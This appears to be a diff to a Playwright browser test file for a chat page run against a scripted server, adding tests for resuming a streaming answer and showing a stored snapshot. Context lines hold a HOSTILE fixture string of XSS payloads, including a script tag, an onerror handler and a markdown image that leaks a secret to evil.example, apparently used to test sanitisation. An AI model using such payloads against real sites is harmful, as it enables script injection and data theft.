@@ -1,4 +1,3 @@
-# ruff: noqa: E501 - frames and rows of data, one to a line
 """The chat page against a scripted server."""
 
 from __future__ import annotations
@@ -8,7 +7,7 @@ from typing import Any
 import pytest
 from playwright.sync_api import expect
 
-from tests.browser.double import CITATIONS, PASSAGE, SOURCES, TEXT, TURN, Double
+from tests.browser.double import ANSWER, CITATIONS, PASSAGE, SOURCES, TEXT, TURN, Double
 
 HOSTILE = (
     "<script>window.fired=1</script><img src=x onerror='window.fired=1'> ![leak](https://evil.example/?q=secret) "
@@ -167,3 +166,33 @@ def test_no_page_breaks_its_own_security_policy(page: Any, double: Double, path:
     page.goto(path)
     page.wait_for_timeout(200)
     assert [text for text in page.problems if "Content Security Policy" in text or "Error:" in text] == []
+
+
+def test_opening_a_conversation_joins_the_answer_that_is_being_written(page: Any, double: Double) -> None:
+    double.detail = {
+        "id": TURN,
+        "title": "Leave",
+        "running": [{"turn": TURN, "answer": "a1", "from": 6}],
+        "messages": [
+            {"id": "q", "parent": None, "role": "user", "text": "May I?", "status": "complete"},
+            {"id": "a1", "parent": "q", "role": "assistant", "text": "Kept. Twi", "status": "streaming"},
+        ],
+    }
+    double.conversations = [{"id": TURN, "title": "Leave", "updated_at": "2026-11-21T00:00:00Z"}]
+    page.goto("/")
+    page.get_by_role("link", name="Leave").click()
+    expect(page.locator(".message.assistant")).to_be_visible()
+    page.wait_for_timeout(100)
+    assert {"type": "resume", "turn": TURN, "after": 0} in double.received
+    double.frame("text", text="Twice.")
+    expect(page.locator(".assistant .prose")).to_have_text("Kept. Twice.")
+
+
+def test_a_stream_that_is_no_longer_held_is_shown_as_stored(page: Any, double: Double) -> None:
+    page.goto("/")
+    double.ask()
+    double.answer(text="Only a part", done="")
+    message = {"id": ANSWER, "role": "assistant", "text": "The whole answer.", "status": "complete", "engine": "m"}
+    double.send({"type": "snapshot", "turn": TURN, "message": message})
+    expect(page.locator(".assistant .prose")).to_have_text("The whole answer.")
+    expect(page.get_by_label("Send")).to_be_visible()
